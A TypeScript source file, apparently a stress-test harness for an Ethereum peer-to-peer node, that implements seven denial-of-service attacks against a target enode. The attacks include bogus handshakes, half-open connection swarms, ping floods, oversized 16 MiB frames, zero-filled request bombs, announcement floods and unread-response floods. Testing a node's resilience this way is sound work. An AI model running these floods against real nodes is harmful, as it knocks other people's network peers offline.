import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as sleep, setImmediate as turn } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import { parseEnode } from '../../protocols/enode/enode.ts'
import { encode } from '../../protocols/eth/messages.ts'
import { concatBytes } from '../../protocols/lib/bytes.ts'
import { encodeRlp } from '../../protocols/lib/rlp.ts'
import { publicKeyOf } from '../../protocols/lib/secp256k1.ts'
import { baseCodes, emptyPayload } from '../../protocols/p2p/messages.ts'
import { FastPeer } from './fast-peer.ts'

// The attackers' process: `node siege-attacks.js NAME ENODE SECONDS`.

type Attack = {
  /** How many do it side by side. */
  readonly crowd: number
  /** Goes on until the connection or the time is over. */
  run(siege: Siege): Promise<void>
}

class Siege {
  readonly enode: string
  readonly #end: number
  count = 0
  constructor(enode: string, seconds: number) {
    this.enode = enode
    this.#end = performance.now() + seconds * 1_000
  }
  get isOver(): boolean {
    return performance.now() >= this.#end
  }
}

const ethCode = (code: number) => 16 + code

const attacks = {
  /** Well-formed to the last byte but the tag: each costs the node a multiplication. */
  'garbage-auths': {
    crowd: 64,
    async run(siege) {
      const { host, tcp } = parseEnode(siege.enode)
      const point = publicKeyOf(randomBytes(32))
      const socket = connect(tcp, host!)
      socket.on('error', () => {})
      socket.resume()
      await once(socket, 'connect')
      socket.write(concatBytes(Uint8Array.of(1, 144, 4), point, randomBytes(335)))
      await once(socket, 'close')
      siege.count++
    },
  },
  'half-open': {
    crowd: 500,
    async run(siege) {
      const { host, tcp } = parseEnode(siege.enode)
      const socket = connect(tcp, host!)
      socket.on('error', () => {})
      socket.resume()
      await once(socket, 'connect')
      siege.count++
      await Promise.race([once(socket, 'close'), sleep(100)])
      socket.destroy()
    },
  },
  pings: flood(4, () => {
    return (peer) => peer.send(baseCodes.Ping, emptyPayload)
  }),
  /** Pongs nobody asked for, of nearly 16 MiB that does not compress: all of it is read, and nothing ends. */
  'frames-16mb': flood(2, () => {
    const payload = new Uint8Array(randomBytes(2 ** 24 - 2 ** 16))
    return (peer) => peer.send(baseCodes.Pong, payload)
  }),
  /** GetBlockHeaders of 9 MiB of zeros, which ends in 0x02: each comes anew. */
  'zero-bombs': flood(4, () => {
    const payload = new Uint8Array(9 << 20)
    return (peer) => peer.send(ethCode(3), payload)
  }),
  announcements: flood(4, () => {
    const hashes = Array.from({ length: 4096 }, () => new Uint8Array(randomBytes(32)))
    const payload = encodeRlp([new Uint8Array(4096), new Array(4096).fill(100), hashes])
    return (peer) => peer.send(ethCode(8), payload)
  }),
  /** Requests for the most that there is, whose answers are never read. */
  'unread-answers': flood(8, () => {
    const request = { kind: 'GetBlockHeaders', id: 1n, origin: 0n, amount: 1024n, skip: 0n, reverse: false } as const
    const payload = encode(69, request)
    return (peer) => {
      peer.stopReading()
      return peer.send(ethCode(3), payload)
    }
  }),
} satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks
export const attackNames = Object.keys(attacks) as AttackName[]

/** Peers that have shaken hands, then send the same thing as fast as it is taken. */
function flood(crowd: number, prepare: () => (peer: FastPeer) => boolean): Attack {
  let send: ReturnType<typeof prepare> | undefined
  return {
    crowd,
    async run(siege) {
      send ??= prepare()
      const peer = await FastPeer.join(siege.enode)
      while (!siege.isOver && !peer.isClosed) {
        for (let i = 0; i < 256 && !peer.isClosed; i++) {
          siege.count++
          if (!send(peer)) break
        }
        await Promise.race([peer.drained(), sleep(1_000)])
        await turn()
      }
      peer.close()
    },
  }
}

async function main([name, enode, seconds]: string[]): Promise<void> {
  const attack: Attack = attacks[name as AttackName]
  const siege = new Siege(enode!, Number(seconds))
  process.send?.({ begun: true })
  const one = async () => {
    while (!siege.isOver) await attack.run(siege).catch(() => sleep(1))
  }
  await Promise.race([Promise.all(Array.from({ length: attack.crowd }, one)), sleep(Number(seconds) * 1_000 + 500)])
  process.send?.({ count: siege.count }, () => process.exit())
}

if (process.argv[1] === fileURLToPath(import.meta.url)) await main(process.argv.slice(2))
